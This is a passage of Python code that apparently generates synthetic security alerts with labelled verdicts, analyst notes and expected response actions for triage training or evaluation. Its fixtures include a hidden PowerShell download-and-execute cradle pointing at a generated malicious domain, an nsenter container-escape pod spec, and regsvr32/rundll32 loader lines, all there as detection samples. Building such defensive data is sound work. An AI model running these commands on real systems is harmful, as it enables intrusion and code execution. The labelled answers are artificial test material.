        "Container daily-extracts on %s set to anonymous list+read by %s for a Power BI test. It holds customer extracts. Reverted to private within 25 minutes; storage logs show no anonymous reads. Disabled allowBlobPublicAccess on the account." % (acctname, u.upn),
        "%s opened daily-extracts on %s to anonymous read for convenience. Storage analytics show no anonymous requests in the window. Reverted; allowBlobPublicAccess now denied by Azure Policy on the subscription." % (u.upn, acctname),
    ])
    return out("Public container on %s" % acctname, "medium", ["T1530"], notes, ["contain_cloud_resource", "notify_owner", "change_org_policy"])


@scenario("rb-public-storage-bucket", "benign")
def bucket_public_static_site(c):
    name, acct = c.aws()
    bucket = pick(["exm-docs-site", "exm-status-page", "exm-public-assets", "exm-marketing-cdn"])
    pr = rng.randint(900, 4800)
    c.alert("aws-cloudtrail", "S3 bucket policy allows public read", "medium",
            cloudtrail("PutBucketPolicy", "s3.amazonaws.com", assumed(acct, "terraform-apply", "atlantis-apply"), int_ip("10.60"), pick(UA_BOTO),
                       req={"bucketName": bucket}),
            ents={"cloud_accounts": [acct]}, asset=("production", "low", "web-team"))
    notes = pick([
        "%s in %s is public by design (static site behind CloudFront), tagged data-classification=public, and the policy came from reviewed infra-terraform PR #%d." % (bucket, name, pr),
        "Public read on %s is intended: it only holds built site assets. Added a tag-based exception so this stops firing on every apply." % bucket,
    ])
    return out("Public-by-design bucket %s updated" % bucket, "informational", ["T1530"], notes, [])


@scenario("rb-public-storage-bucket", "false_positive")
def bucket_policy_vpce(c):
    proj = pick(GCP_PROJECTS)
    b = "exm-%s-%s" % (pick(["ml-datasets", "logs", "tmp"]), alnum(4))
    sa = "terraform@%s.iam.gserviceaccount.com" % proj
    c.alert("gcp-audit", "Bucket IAM binding grants allUsers", "high",
            gcp("storage.setIamPermissions", "storage.googleapis.com", sa, int_ip("10.128"),
                "Terraform/1.7.5", proj, "gcs_bucket", "projects/_/buckets/%s" % b,
                req={"policy": {"bindings": [{"role": "roles/storage.objectViewer", "members": ["projectViewer:%s" % proj]}]}}),
            ents={"service_accounts": [sa]}, asset=("production", "medium", "data-eng"))
    notes = pick([
        "New binding on gs://%s is projectViewer:%s, a convenience group of the project, not allUsers; the rule's regex matched 'Viewer'. Fixed the regex." % (b, proj),
        "No public member in the Terraform-applied policy for %s (%s). Parsing bug, FP." % (b, proj),
    ])
    return out("IAM change on gs://%s misread as public" % b, "informational", ["T1530"], notes, ["create_ticket"])


@scenario("rb-snapshot-exfiltration", "true_positive")
def snapshot_shared_external(c):
    name, acct = c.aws("prod-core")
    ext = "".join(rng.choice(string.digits) for _ in range(12))
    ip = ext_ip()
    snap = pick(["snap-", "rds:"]) + hexs(17)
    is_rds = snap.startswith("rds")
    c.alert("aws-cloudtrail", "Snapshot shared with account outside the organization", "critical",
            cloudtrail("ModifyDBSnapshotAttribute" if is_rds else "ModifySnapshotAttribute",
                       "rds.amazonaws.com" if is_rds else "ec2.amazonaws.com",
                       assumed(acct, pick(["dba-automation", "backup-operator"]), alnum(10)), ip, attack_ua("ec2.modify-snapshot-attribute"),
                       req=({"dBSnapshotIdentifier": "payments-db-" + c.day(), "attributeName": "restore", "valuesToAdd": [ext]} if is_rds else
                            {"snapshotId": snap, "createVolumePermission": {"add": {"items": [{"userId": ext}]}}})),
            ents={"cloud_accounts": [acct, ext], "ips": [ip]}, asset=("production", "critical", "payments-team"))
    notes = pick([
        "Snapshot shared to %s, an account not in our org or the partner list, from %s using backup-operator credentials lifted from a CI log. Removed the share, confirmed via the snapshot's permission history that the external account had it for 9 minutes, engaged AWS for copy evidence, rotated the role's trust." % (ext, ip),
        "Production snapshot shared externally (%s). Treat as data theft; permission revoked, snapshot encrypted-with-CMK policy applied so future shares are useless without the key." % ext,
    ])
    return out("Production snapshot shared to external account %s" % ext, "critical", ["T1537", "T1078.004"], notes,
               ["contain_cloud_resource", "revoke_sessions", "rotate_secret", "notify_owner"])


@scenario("rb-snapshot-exfiltration", "benign")
def snapshot_dr_account(c):
    name, acct = c.aws("prod-core")
    dr = AWS_ACCOUNTS["log-archive"]
    snap = "snap-" + hexs(17)
    c.alert("aws-cloudtrail", "Snapshot shared with another account", "medium",
            cloudtrail("ModifySnapshotAttribute", "ec2.amazonaws.com", assumed(acct, "aws-backup-service-role", "AWSBackup"), "backup.amazonaws.com",
                       "backup.amazonaws.com", req={"snapshotId": snap, "createVolumePermission": {"add": {"items": [{"userId": dr}]}}}),
            ents={"cloud_accounts": [acct, dr]}, asset=("production", "medium", "sre"))
    notes = pick([
        "AWS Backup copying %s from prod-core (%s) to the vault account %s as part of the nightly DR plan; service principal caller, in-org destination." % (snap, acct, dr),
        "Cross-account copy by aws-backup-service-role to %s, an org member. Rule now excludes organization accounts." % dr,
    ])
    return out("AWS Backup DR copy of %s to vault" % snap[:13], "informational", ["T1537"], notes, [])


@scenario("rb-snapshot-exfiltration", "false_positive")
def snapshot_public_ami(c):
    name, acct = c.aws("shared-services")
    ami = "ami-" + hexs(17)
    c.alert("aws-cloudtrail", "Snapshot made public", "high",
            cloudtrail("ModifyImageAttribute", "ec2.amazonaws.com", assumed(acct, "packer-builder", "packer"), int_ip("10.60"), "aws-sdk-go/1.44 packer/1.10.2",
                       req={"imageId": ami, "launchPermission": {"add": {"items": [{"userId": AWS_ACCOUNTS["prod-core"]}]}}}),
            ents={"cloud_accounts": [acct, AWS_ACCOUNTS["prod-core"]]}, asset=("production", "low", "platform-eng"))
    notes = pick([
        "Packer shared golden image %s with %s (prod-core), an org member. launchPermission has a specific userId, not group 'all', so nothing is public. Parser bug raised." % (ami, AWS_ACCOUNTS["prod-core"]),
        "%s from the weekly image pipeline in shared-services, shared to prod-core only. The rule treats any launchPermission add as public. FP." % ami,
    ])
    return out("Golden image %s share misread as public" % ami[:12], "informational", ["T1537"], notes, ["create_ticket"])


@scenario("rb-cloud-instance-unusual-region", "true_positive")
def region_new_vpc(c):
    name, acct = c.aws()
    region = pick(AWS_REGIONS_UNUSED)
    ip = ext_ip()
    u = c.person()
    c.alert("aws-cloudtrail", "VPC and instances created in unused region", "high",
            cloudtrail("CreateVpc", "ec2.amazonaws.com", assumed(acct, "AWSReservedSSO_Admin_" + hexs(16), u.email), ip, attack_ua("ec2.create-vpc"),
                       region=region, req={"cidrBlock": "10.99.0.0/16"}),
            ents={"cloud_accounts": [acct], "ips": [ip], "users": [u.email]}, asset=("production", "high", "platform-eng"))
    c.alert("aws-cloudtrail", "Instance launched with public IP in unused region", "high",
            cloudtrail("RunInstances", "ec2.amazonaws.com", assumed(acct, "AWSReservedSSO_Admin_" + hexs(16), u.email), ip, attack_ua("ec2.run-instances"),
                       region=region, req={"instanceType": "c5.4xlarge", "associatePublicIpAddress": True, "maxCount": 3}),
            off=4, ents={"cloud_accounts": [acct], "ips": [ip]}, asset=("production", "high", "platform-eng"))
    notes = pick([
        "New VPC and three public c5 instances in %s, a region we have never used, by %s's admin SSO session from %s. The session came from a phished Okta cookie. Terminated the instances, deleted the VPC, revoked sessions, added region-deny SCP." % (region, u.email, ip),
        "Shadow infrastructure in %s (account %s) built from %s's hijacked admin session via %s. Torn down; SCP now restricts to the three approved regions." % (region, acct, u.email, ip),
    ])
    return out("Shadow VPC and instances in %s" % region, "high", ["T1578.002", "T1535", "T1078.004"], notes,
               ["delete_resource", "revoke_sessions", "change_org_policy", "block_indicator"])


@scenario("rb-cloud-instance-unusual-region", "benign")
def region_expansion(c):
    name, acct = c.aws("prod-core")
    region = pick(["ap-southeast-1", "eu-central-1", "ca-central-1"])
    ch = chg()
    c.alert("aws-cloudtrail", "Instance launched in region with no prior activity", "medium",
            cloudtrail("RunInstances", "ec2.amazonaws.com", assumed(acct, "terraform-apply", "atlantis-apply"), int_ip("10.60"), pick(UA_BOTO),
                       region=region, req={"instanceType": "m6i.large", "maxCount": 2}),
            ents={"cloud_accounts": [acct]}, asset=("production", "medium", "platform-eng"))
    notes = pick([
        "First instances in %s for %s (%s) come from the data-residency build-out in %s. Atlantis apply, region was added to the SCP allow list the same morning." % (region, name, acct, ch),
        "%s is a newly approved region; launches were Terraform-driven via terraform-apply in %s. Baseline updated." % (region, acct),
    ])
    return out("Planned %s build-out in %s (%s)" % (region, name, ch), "informational", ["T1535"], notes, [])


@scenario("rb-cloud-instance-unusual-region", "false_positive")
def region_global_service(c):
    name, acct = c.aws()
    region = pick(AWS_REGIONS_UNUSED)
    c.alert("aws-cloudtrail", "API activity in unused region", "low",
            cloudtrail("DescribeRegions", "ec2.amazonaws.com", assumed(acct, "wiz-scanner", "wiz"), ext_ip(), "aws-sdk-go/1.50",
                       region=region, ro=True),
            ents={"cloud_accounts": [acct]}, asset=("production", "low", "secops"))
    notes = pick([
        "Only read-only Describe* calls in %s from the wiz-scanner role in %s (%s); the posture scanner sweeps every region. No create or modify calls, so nothing was built there. Rule now limited to mutating APIs." % (region, name, acct),
        "wiz-scanner enumerating %s as part of its all-region sweep of account %s. Read-only. FP." % (region, acct),
    ])
    return out("Posture scanner read-only calls in %s (%s)" % (region, name), "informational", ["T1535"], notes, [])


@scenario("rb-k8s-privileged-container", "true_positive")
def k8s_priv_hostpath(c):
    cl, env, ns = c.k8s()
    u = c.person()
    name = pick(["debug-tools", "netshoot", "node-shell-" + alnum(5)])
    ip = int_ip("10.20")
    c.alert("kubernetes-audit", "Privileged pod with hostPath / and hostPID created", "critical",
            k8s("create", u.email, ["developers", "system:authenticated"], [ip], "/api/v1/namespaces/%s/pods" % ns, "pods", ns, name=name,
                req={"spec": {"hostPID": True, "hostNetwork": True, "containers": [{"name": "x", "image": "docker.io/library/alpine:3.19",
                                                                                   "securityContext": {"privileged": True},
                                                                                   "command": ["nsenter", "--target", "1", "--mount", "--uts", "--ipc", "--net", "--pid", "--", "bash"],
                                                                                   "volumeMounts": [{"name": "host", "mountPath": "/host"}]}],
                              "volumes": [{"name": "host", "hostPath": {"path": "/"}}]}}),
            ents={"users": [u.email], "ips": [ip], "hosts": [name]}, asset=(env, "critical", c.team()))
    c.alert("falco", "Container escape: nsenter into host namespaces", "critical",
            falco("Launch Privileged Container", "Critical", "Privileged container started (user=root command=nsenter --target 1 ...)",
                  {"k8s.ns.name": ns, "k8s.pod.name": name, "proc.cmdline": "nsenter --target 1 --mount --uts --ipc --net --pid -- bash",
                   "container.image.repository": "docker.io/library/alpine", "k8s.node.name": "ip-10-0-%d-%d.ec2.internal" % (rng.randint(1, 200), rng.randint(1, 200))}),
            off=0.5, ents={"hosts": [name]}, asset=(env, "critical", c.team()))
    notes = pick([
        "%s's kubeconfig (developer role, which should not allow privileged pods; the PSA label on %s was missing) created %s with hostPID and / mounted, then nsenter'd to the node. The user was not at work; token came from a stolen laptop backup. Deleted the pod, cordoned and replaced the node, revoked the user's cluster creds, enforced PSA restricted on all app namespaces." % (u.email, ns, name),
        "Node breakout via privileged pod %s in %s/%s. Node drained and replaced, kubeconfig revoked, admission policy now blocks privileged/hostPath everywhere except kube-system." % (name, cl, ns),
    ])
    return out("Privileged hostPath pod %s by %s used to nsenter node in %s" % (name, u.sam, cl), "critical", ["T1610", "T1611"], notes,
               ["quarantine_workload", "delete_resource", "revoke_token", "change_org_policy", "collect_forensics"])


@scenario("rb-k8s-privileged-container", "benign")
def k8s_priv_daemonset(c):
    cl, env, ns = c.k8s()
    ds = pick(["falco", "node-exporter", "datadog-agent", "cilium", "aws-ebs-csi-node"])
    pod = ds + "-" + alnum(5)
    c.alert("kubernetes-audit", "Privileged container created", "medium",
            k8s("create", "system:serviceaccount:kube-system:daemon-set-controller", ["system:serviceaccounts"], [int_ip("10.0")],
                "/api/v1/namespaces/%s/pods" % "kube-system", "pods", "kube-system", name=pod,
                req={"spec": {"containers": [{"name": ds, "securityContext": {"privileged": True}}]}}),
            ents={"hosts": [pod]}, asset=(env, "medium", "platform-eng"))
    notes = pick([
        "%s is the %s DaemonSet pod landing on a node the autoscaler added in %s. It needs privileged for host metrics/eBPF; created by the daemon-set-controller and the image digest matches our mirror." % (pod, ds, cl),
        "System DaemonSet %s scheduling onto a fresh node in %s. Privileged by design, created by the controller, not a user." % (ds, cl),
    ])
    return out("%s DaemonSet pod on new node in %s" % (ds, cl), "informational", ["T1610"], notes, [])


@scenario("rb-k8s-privileged-container", "false_positive")
def k8s_priv_dryrun(c):
    cl, env, ns = c.k8s()
    u = c.person()
    c.alert("kubernetes-audit", "Privileged pod with hostPath / and hostPID created", "high",
            k8s("create", u.email, ["platform-admins"], [int_ip()], "/api/v1/namespaces/%s/pods?dryRun=All" % ns, "pods", ns, name="policy-test",
                code=403, decision="forbid", reason="admission webhook \"validation.gatekeeper.sh\" denied the request",
                req={"spec": {"containers": [{"securityContext": {"privileged": True}}]}}),
            ents={"users": [u.email]}, asset=(env, "medium", "platform-eng"))
    notes = pick([
        "%s sent a dryRun=All create for a privileged 'policy-test' pod in %s/%s to verify Gatekeeper after its upgrade; the webhook denied it with 403 and nothing was persisted." % (u.email, cl, ns),
        "Policy test by platform admin %s: denied dry-run in %s. Rule now ignores dryRun and denied responses." % (u.sam, cl),
    ])
    return out("Denied dry-run privileged pod by %s in %s" % (u.sam, cl), "informational", ["T1610"], notes, ["create_ticket"])


# ===================================== phishing and email ============================

def mail_delivered(c, rcpt, sender, subject, url=None, attach=None, verdict="delivered", extra=None):
    f = {"Workload": "Exchange", "Operation": "EmailDelivered" if verdict == "delivered" else "EmailQuarantined",
         "CreationTime": "__T__", "RecipientAddress": rcpt, "SenderFromAddress": sender, "Subject": subject,
         "NetworkMessageId": guid(), "InternetMessageId": "<%s@%s>" % (alnum(20), sender.split("@")[1]),
         "AuthenticationDetails": {"SPF": pick(["pass", "softfail", "none"]), "DKIM": pick(["pass", "none"]), "DMARC": pick(["pass", "fail", "none"])},
         "DeliveryAction": verdict.capitalize(), "ThreatTypes": []}
    if url:
        f["Urls"] = [url]
    if attach:
        f["Attachments"] = [{"FileName": attach, "SHA256": sha256()}]
    if extra:
        f.update(extra)
    return f


@scenario("rb-phishing-credential-harvest", "true_positive")
def phish_click_submit(c):
    u = c.person()
    dom = lookalike_domain(pick(["okta", "microsoft", "docusign", "adobe"]))
    url = "https://%s/%s?e=%s" % (dom, pick(["signin", "auth/verify", "session"]), base64.b64encode(u.email.encode()).decode())
    sender = "no-reply@%s" % pick(["docs-share.example.net", "esign-notify.example", "payroll-update.example.org"])
    subj = pick(["Action required: review Q%d compensation letter" % rng.randint(1, 4), "Your document is ready for signature",
                 "Password expiry notice for %s" % u.email, "Shared file: %s_invoice.pdf" % pick(["ACME", "Contoso", "Northwind"])])
    c.alert("o365", "Phishing URL delivered: newly registered domain", "medium",
            mail_delivered(c, u.email, sender, subj, url=url), off=-25, ents={"users": [u.email], "urls": [url]},
            asset=("corporate", "medium", c.team()))
    c.alert("proxy", "User submitted form to credential-harvesting site", "high",
            proxy(u.email, int_ip("10.20"), url, method="POST", category="Phishing", risk=95, bytes_out=rng.randint(500, 1500)),
            ents={"users": [u.email], "urls": [url]}, asset=("corporate", "medium", c.team()))
    c.alert("okta", "Sign-in from new device shortly after phishing click", "high",
            okta("user.session.start", u, ext_ip(), *pick(CITIES_FAR), ua=pick(UA_BROWSER), asorg=pick(HOSTING_ASN)),
            off=9, ents={"users": [u.email]}, asset=("corporate", "medium", c.team()))
    notes = pick([
        "%s clicked '%s' and POSTed to %s; nine minutes later a sign-in for the account came from a hosting provider, stopped at MFA. Reset password, revoked sessions, blocked the domain, and purged the same message from the other %d mailboxes that received it." % (u.name, subj, dom, rng.randint(3, 40)),
        "Credential submission confirmed by proxy POST to %s. Attacker tried the creds right away. Account secured (reset + session revoke), message quarantined tenant-wide, domain blocked at proxy and mail gateway." % dom,
    ])
    return out("Credential phish '%s' submitted by %s" % (subj[:40], u.sam), "high", ["T1566.002", "T1204.001", "T1078.004"], notes,
               ["reset_password", "revoke_sessions", "quarantine_email", "block_indicator"])


@scenario("rb-phishing-credential-harvest", "true_positive")
def phish_qr_code(c):
    u = c.person()
    dom = lookalike_domain(pick(["microsoft", "m365", "sharepoint"]))
    c.alert("o365", "Email with QR code linking to credential page", "medium",
            mail_delivered(c, u.email, "hr-benefits@%s" % pick(["benefits-portal.example", "hr-notice.example.net"]),
                           "Mandatory MFA re-enrolment - scan to continue", extra={"QRCodeUrl": "https://%s/r/%s" % (dom, alnum(6))}),
            ents={"users": [u.email], "urls": ["https://%s/" % dom]}, asset=("corporate", "medium", c.team()))
    c.alert("entra-id", "Sign-in from mobile browser at phishing proxy", "high",
            entra_signin(u, "OfficeHome", ext_ip(), *pick(CITIES_FAR), risk="high", ua=UA_BROWSER[4]),
            off=40, ents={"users": [u.upn]}, asset=("corporate", "medium", c.team()))
    notes = pick([
        "Quishing: %s scanned the QR on their personal phone, which our proxy never sees, so the first signal was the risky sign-in 40 minutes later. Session was established (MFA relayed). Revoked, reset, registered devices reviewed (none added), domain %s blocked." % (u.email, dom),
        "QR-code phish bypassed URL rewriting. Entra flagged the token. Revoked sessions for %s, password reset, purged the campaign (subject 'Mandatory MFA re-enrolment')." % u.sam,
    ])
    return out("QR-code phish led to risky sign-in for %s" % u.sam, "high", ["T1566.002", "T1204.001", "T1557"], notes,
               ["revoke_sessions", "reset_password", "quarantine_email", "block_indicator"])


@scenario("rb-phishing-credential-harvest", "benign")
def phish_simulation(c):
    u = c.person()
    url = "https://%s/%s" % (pick(["training-portal.example.com", "secure-awareness.example.net"]), alnum(10))
    c.alert("proxy", "User submitted form to credential-harvesting site", "high",
            proxy(u.email, int_ip("10.20"), url, method="POST", category="Phishing", risk=70),
            ents={"users": [u.email], "urls": [url]}, asset=("corporate", "low", c.team()))
    notes = pick([
        "%s belongs to the awareness vendor; this is the %s simulation and %s submitted the fake form, which discards input. They get the training module automatically." % (url.split("/")[2], c.t0.strftime("%B"), u.email),
        "Simulation landing page (%s). %s clicked and submitted; no real credential left the network. Asked the vendor to get the page recategorised." % (url.split("/")[2], u.sam),
    ])
    return out("Phishing simulation submission by %s" % u.sam, "informational", ["T1566.002"], notes, [])


@scenario("rb-phishing-credential-harvest", "false_positive")
def phish_legit_sso(c):
    u = c.person()
    partner = pick(["partner-acme", "supplier-portal", "northwind-b2b"])
    url = "https://%s.okta.example.com/login/login.htm" % partner
    c.alert("proxy", "Login page on domain impersonating IdP brand", "medium",
            proxy(u.email, int_ip("10.20"), url, method="POST", category="Business", risk=55),
            ents={"users": [u.email], "urls": [url]}, asset=("corporate", "low", c.team()))
    notes = pick([
        "%s.okta.example.com is a supplier's own Okta tenant that %s uses for purchase orders; certificate and tenant are legitimate and the user has logged in there for a year. Brand heuristic fired on 'okta' in a non-corp hostname." % (partner, u.email),
        "Partner SSO portal (%s), not a look-alike. %s's POST is their normal supplier-portal login. Added to known partner tenants." % (partner, u.name),
    ])
    return out("Partner tenant %s flagged as IdP impersonation" % partner, "informational", ["T1566.002"], notes, [])


@scenario("rb-malicious-office-document", "true_positive")
def office_macro_ps(c):
    u = c.person()
    host = c.ws()
    doc = "%s_%s.docm" % (pick(["Invoice", "Remittance", "PO", "Contract"]), rng.randint(10000, 99999))
    url = "http://%s/%s.png" % (evil_domain(), alnum(6))
    script = "$w=New-Object Net.WebClient;$d=$w.DownloadData('%s');[Reflection.Assembly]::Load($d).EntryPoint.Invoke($null,$null)" % url
    cmd = "powershell.exe -nop -w hidden -enc " + b64_utf16(script)
    c.alert("o365", "Macro-enabled attachment delivered", "low",
            mail_delivered(c, u.email, "accounts@%s" % pick(["northwind-supplies.example", "fabrikam-billing.example.net"]),
                           "Overdue payment - %s" % doc.split(".")[0], attach=doc), off=-40,
            ents={"users": [u.email], "files": [doc]}, asset=("corporate", "medium", c.team()))
    c.alert("sysmon", "Office application spawned PowerShell", "critical",
            sysmon1(host, u.win, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", cmd,
                    "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                    pcmd='"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\%s\\Downloads\\%s" /o ""' % (u.sam, doc),
                    cwd="C:\\Users\\%s\\Documents\\" % u.sam),
            ents={"hosts": [host], "users": [u.win], "urls": [url], "files": [doc]}, asset=("corporate", "medium", c.team()))
    notes = pick([
        "%s enabled content on %s; WINWORD spawned hidden PowerShell that reflectively loaded a .NET payload from %s (decoded). Isolated %s before the second stage beaconed, blocked the domain, quarantined the message org-wide, reset the user's password." % (u.name, doc, url.split("/")[2], host),
        "Macro doc from a spoofed supplier led to in-memory loader on %s. Contained by isolation; no lateral activity from the host. Email purged from %d mailboxes." % (host, rng.randint(2, 15)),
    ])
    return out("Macro document %s spawned PowerShell on %s" % (doc, host), "high", ["T1566.001", "T1204.002", "T1059.001", "T1620"], notes,
               ["isolate_host", "quarantine_email", "block_indicator", "collect_forensics", "reset_password"])


@scenario("rb-malicious-office-document", "true_positive")
def office_excel_regsvr(c):
    u = c.person()
    host = c.ws()
    doc = "%s.xlsb" % pick(["Q3_payroll_adjustments", "bonus_allocation", "shipment_schedule"])
    dll = "C:\\Users\\%s\\AppData\\Local\\Temp\\%s.ocx" % (u.sam, alnum(6))
    c.alert("crowdstrike", "Office process launched regsvr32 with suspicious DLL", "high",
            cs(host, u.sam, "OfficeChildProcess", "Execution", "User Execution", "regsvr32.exe /s %s" % dll,
               "C:\\Windows\\System32\\regsvr32.exe", "EXCEL.EXE", disposition="Process blocked"),
            ents={"hosts": [host], "users": [u.win], "files": [dll, doc]}, asset=("corporate", "medium", c.team()))
    notes = pick([
        "Excel 4.0/XLSB %s dropped %s and tried regsvr32 /s; prevention blocked the child. Attachment came through the partner mailbox that bypasses attachment sandboxing. Quarantined the mail, removed the partner bypass, reimaged %s as precaution." % (doc, dll.split("\\")[-1], host),
        "Blocked execution from %s. The DLL is a known loader family (sandbox report linked). No persistence created. Email quarantined, hash blocked." % doc,
    ])
    return out("Excel attachment attempted regsvr32 on %s" % host, "high", ["T1566.001", "T1204.002", "T1218.010"], notes,
               ["quarantine_email", "block_indicator", "collect_forensics"])


@scenario("rb-malicious-office-document", "benign")
def office_addin(c):
    u = c.person()
    host = c.ws()
    c.alert("sysmon", "Office application spawned command interpreter", "medium",
            sysmon1(host, u.win, "C:\\Windows\\System32\\cmd.exe", 'cmd.exe /c "C:\\Program Files (x86)\\SAP\\FrontEnd\\SAPgui\\sapshcut.exe" -system=PRD -client=100',
                    "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE"),
            ents={"hosts": [host], "users": [u.win]}, asset=("corporate", "low", "finance-systems"))
    notes = pick([
        "SAP Analysis for Office in %s's Excel on %s shells out to sapshcut.exe to open the PRD/100 connection. Signed SAP binary, identical command line across the finance team. Allowlisted the pair." % (u.sam, host),
        "EXCEL -> cmd -> sapshcut on %s is the SAP add-in's logon flow, not a macro. Benign." % host,
    ])
    return out("Excel SAP add-in launching cmd on %s" % host, "informational", ["T1204.002"], notes, [])


@scenario("rb-malicious-office-document", "false_positive")
def office_hash_fp(c):
    u = c.person()
    doc = "%s.docx" % pick(["Board_pack_draft", "Policy_update_v3", "Onboarding_guide"])
    c.alert("o365", "Attachment matched malware hash reputation", "high",
            mail_delivered(c, u.email, "comms@" + EMAIL_DOMAIN, "FYI: " + doc.split(".")[0].replace("_", " "), attach=doc,
                           extra={"ThreatTypes": ["Malware"], "DetectionMethods": ["File reputation"]}),
            ents={"users": [u.email], "files": [doc]}, asset=("corporate", "low", c.team()))
    notes = pick([
        "Internal sender, plain .docx with no macros or external links; sandbox detonation clean. The reputation hit was a vendor signature FP confirmed by their support (signature pulled). Released the message to %s." % u.email,
        "%s flagged by a bad reputation signature; internal doc, clean detonation. Released, submitted FP to the vendor." % doc,
    ])
    return out("Internal %s misflagged as malware" % doc, "informational", ["T1566.001"], notes, [])


@scenario("rb-html-smuggling", "true_positive")
def html_smuggle_iso(c):
    u = c.person()
    host = c.ws()
    html = "%s.html" % pick(["Secure_Message", "Voicemail_%d" % rng.randint(100, 999), "Fax_Received"])
    iso = "C:\\Users\\%s\\Downloads\\%s.iso" % (u.sam, pick(["Document_%d" % rng.randint(1000, 9999), "Statement", "Scan"]))
    lnk = "E:\\%s.lnk" % pick(["Document", "Invoice", "README"])
    c.alert("sysmon", "Browser wrote ISO file assembled by JavaScript", "medium",
            sysmon11(host, u.win, "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", iso),
            ents={"hosts": [host], "users": [u.win], "files": [iso, html]}, asset=("corporate", "medium", c.team()))
    c.alert("sysmon", "LNK in mounted ISO launched rundll32", "high",
            sysmon1(host, u.win, "C:\\Windows\\System32\\rundll32.exe", "rundll32.exe E:\\bin\\%s.dll,%s" % (alnum(6), pick(["DllRegisterServer", "Start", "#1"])),
                    "C:\\Windows\\explorer.exe", cwd="E:\\"), off=1, ents={"hosts": [host], "users": [u.win], "files": [lnk]},
            asset=("corporate", "medium", c.team()))
    notes = pick([
        "%s opened %s from an email; the page built %s in the browser (no download from a URL the proxy could scan). Mounting it and clicking the LNK ran a DLL via rundll32, bypassing MOTW since the ISO contents don't carry it. Isolated %s, blocked ISO auto-mount via GPO, purged the mail." % (u.name, html, iso.split("\\")[-1], host),
        "HTML smuggling -> ISO -> LNK -> rundll32 chain on %s. Payload beacon blocked at proxy. Host isolated and reimaged; GPO change to disable disk image mounting for standard users." % host,
    ])
    return out("HTML smuggling ISO/LNK chain on %s" % host, "high", ["T1027.006", "T1553.005", "T1204.002", "T1218.011"], notes,
               ["isolate_host", "quarantine_email", "change_org_policy", "collect_forensics", "block_indicator"])


@scenario("rb-html-smuggling", "true_positive")
def html_smuggle_zip_js(c):
    u = c.person()
    host = c.ws()
    js = "C:\\Users\\%s\\Downloads\\%s.js" % (u.sam, pick(["Invoice_scan", "Payment_advice", "Order_%d" % rng.randint(100, 999)]))
    c.alert("crowdstrike", "Script from archive executed via wscript", "high",
            cs(host, u.sam, "WScriptFromArchive", "Execution", "Command and Scripting Interpreter",
               'wscript.exe "%s"' % js, "C:\\Windows\\System32\\wscript.exe", "explorer.exe"),
            ents={"hosts": [host], "users": [u.win], "files": [js]}, asset=("corporate", "medium", c.team()))
    notes = pick([
        "Smuggled ZIP (built by JS blob in an attached HTML) held %s; %s double-clicked it and wscript reached out to a loader URL. Killed, isolated, and the HTML attachment type is now sandboxed at the gateway." % (js.split("\\")[-1], u.name),
        "JS dropper from an HTML-smuggled archive on %s. Contained; hash and domain blocked." % host,
    ])
    return out("HTML-smuggled JS dropper on %s" % host, "high", ["T1027.006", "T1059.007", "T1204.002"], notes,
               ["isolate_host", "kill_process", "block_indicator", "quarantine_email"])


@scenario("rb-html-smuggling", "false_positive")
def html_smuggle_sharepoint(c):
    u = c.person()
    host = c.ws()
    f = "C:\\Users\\%s\\Downloads\\%s.zip" % (u.sam, pick(["OneDrive_1_%s" % c.day(), "Photos", "Q4_reports"]))
    c.alert("sysmon", "Browser wrote archive assembled by JavaScript (blob URL)", "medium",
            dict(sysmon11(host, u.win, "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", f), ReferrerUrl="https://examplecorp-my.sharepoint.com/"),
            ents={"hosts": [host], "users": [u.win], "files": [f]}, asset=("corporate", "low", c.team()))
    notes = pick([
        "%s selected several files in OneDrive and chose Download; SharePoint zips them client-side through a blob URL, which is exactly what the smuggling rule looks for. Referrer is our own tenant and %s contains spreadsheets only." % (u.sam, f.split("\\")[-1]),
        "Blob-URL ZIP on %s came from examplecorp-my.sharepoint.com (multi-file download). No ISO/LNK/JS inside. FP; tenant referrer excluded." % host,
    ])
    return out("OneDrive multi-file download on %s flagged as smuggling" % host, "informational", ["T1027.006"], notes, ["create_ticket"])


@scenario("rb-bec-inbox-rules", "true_positive")
def bec_forward_rule(c):
    u = c.person()
    ip = ext_ip()
    fwd = "%s.%s@%s" % (u.first.lower(), pick(["backup", "archive", "docs"]), pick(["mail-box.example", "freemail.example.net"]))
    c.alert("o365", "Inbox rule forwards mail to external address", "high",
            o365("New-InboxRule", u.upn, ip, params={"Name": pick(["..", "Sync", "RSS"]), "ForwardTo": fwd, "From": "",
                                                       "SubjectOrBodyContainsWords": "invoice;wire;payment;bank", "StopProcessingRules": "True"}),
            ents={"users": [u.upn], "ips": [ip]}, asset=("corporate", "high", "finance-systems"))
    c.alert("o365", "Sensitive mail deleted after forwarding rule created", "medium",
            o365("SoftDelete", u.upn, ip, params={"Folder": "Sent Items", "Count": str(rng.randint(3, 20))}), off=25,
            ents={"users": [u.upn], "ips": [ip]}, asset=("corporate", "high", "finance-systems"))
    city, cc = pick(CITIES_FAR)
    c.alert("entra-id", "Sign-in from anonymising infrastructure to finance mailbox", "high",
            entra_signin(u, "Office 365 Exchange Online", ip, city, cc, risk="medium", authreq="singleFactorAuthentication",
                         extra={"isInteractive": False, "riskEventTypes_v2": ["anonymizedIPAddress"]}),
            off=-8, ents={"users": [u.upn], "ips": [ip]}, asset=("corporate", "high", "finance-systems"))
    notes = pick([
        "Rule '..' on %s's mailbox forwards anything mentioning invoice/wire/bank to %s and was created from %s, not the user's device. The attacker then sent a bank-detail change to two suppliers and deleted the sent copies. Rule removed, sessions revoked, password reset, suppliers and AP warned to hold payments." % (u.name, fwd, ip),
        "Classic BEC: finance mailbox %s with external forwarding + deletion of sent items. Removed rule, blocked external auto-forwarding tenant-wide, notified the payments team to verify all bank changes this week." % u.upn,
    ])
    return out("BEC forwarding rule on %s" % u.upn, "high", ["T1114.003", "T1564.008", "T1078.004"], notes,
               ["remove_mailbox_rule", "revoke_sessions", "reset_password", "notify_owner", "change_org_policy"])


@scenario("rb-bec-inbox-rules", "true_positive")
def bec_hide_rule_gws(c):
    u = c.person()
    ip = ext_ip()
    c.alert("google-workspace", "Gmail filter deletes or archives mail from IT/security", "high",
